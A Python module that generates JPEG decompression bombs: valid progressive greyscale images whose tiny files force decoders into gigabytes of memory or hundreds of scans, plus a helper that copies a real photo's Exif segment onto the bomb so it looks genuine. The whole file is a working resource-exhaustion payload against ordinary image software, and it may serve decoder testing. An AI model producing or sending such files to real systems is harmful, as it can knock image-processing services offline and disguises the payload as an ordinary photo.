"""Decoder bombs made on the spot: valid progressive greyscale JPEG streams whose coefficients are all zero, so
that a file of a few hundred kilobytes asks a decoder for gigabytes or for hundreds of passes over the image."""

import struct


class _Bits:
    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value, length):
        for i in range(length - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self._byte(self.acc)
                self.acc = self.n = 0

    def zeros(self, count):
        """count zero bits, fast when the stream is on a byte boundary."""
        while count and self.n:
            self.put(0, 1)
            count -= 1
        self.out += bytes(count // 8)
        self.put(0, count % 8)

    def _byte(self, b):
        self.out.append(b)
        if b == 0xFF:
            self.out.append(0)

    def flush(self):
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)
        return bytes(self.out)


def _segment(marker, body):
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _huffman_tables():
    # DC: category 0 alone, code "0". AC: EOB0..EOB14 (0x00, 0x10, ... 0xE0), all 4 bits long.
    dc = bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0])
    ac_symbols = bytes(r << 4 for r in range(15))
    ac = bytes([0x10]) + bytes([0, 0, 0, 15] + [0] * 12) + ac_symbols
    return _segment(0xC4, dc + ac)


def _sos(ss, se, ah, al):
    return _segment(0xDA, bytes([1, 1, 0x00, ss, se, (ah << 4) | al]))


def _eob_runs(blocks):
    """An AC scan in which no block has a coefficient: EOB runs of at most 32767 blocks."""
    bits = _Bits()
    while blocks:
        run = min(blocks, 32767)
        r = run.bit_length() - 1
        bits.put(r, 4)  # symbol r << 4 has code r
        bits.put(run - (1 << r), r)
        blocks -= run
    return bits.flush()


def progressive(width, height, scans="dc", app1=b""):
    """scans: "dc" for the DC scan alone; a number n up to 64 for the DC scan and one scan for each of the
    first n - 1 AC coefficients; "all" for the longest valid sequence (DC first, then every AC coefficient
    alone from bit 13 down to bit 0: 1 + 63 * 14 = 883 scans)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(b"\xff\xd8") + app1
    out += _segment(0xDB, bytes([0]) + bytes([1] * 64))
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))
    out += _huffman_tables()
    dc = _Bits()
    dc.zeros(blocks)  # one "0" (difference of category 0) per block
    out += _sos(0, 0, 0, 0) + dc.flush()
    if isinstance(scans, int):
        eob = _eob_runs(blocks)
        for k in range(1, scans):
            out += _sos(k, k, 0, 0) + eob
    if scans == "all":
        eob = _eob_runs(blocks)
        for k in range(1, 64):
            out += _sos(k, k, 0, 13) + eob
            for al in range(12, -1, -1):
                out += _sos(k, k, al + 1, al) + eob
    return bytes(out + b"\xff\xd9")


def exif_app1(photo_bytes):
    """The first Exif APP1 segment of a JPEG file, whole."""
    pos = 2
    while pos + 4 <= len(photo_bytes) and photo_bytes[pos] == 0xFF:
        (length,) = struct.unpack(">H", photo_bytes[pos + 2:pos + 4])
        if photo_bytes[pos + 1] == 0xE1 and photo_bytes[pos + 4:pos + 10] == b"Exif\0\0":
            return photo_bytes[pos:pos + 2 + length]
        pos += 2 + length
    raise ValueError("no Exif segment")
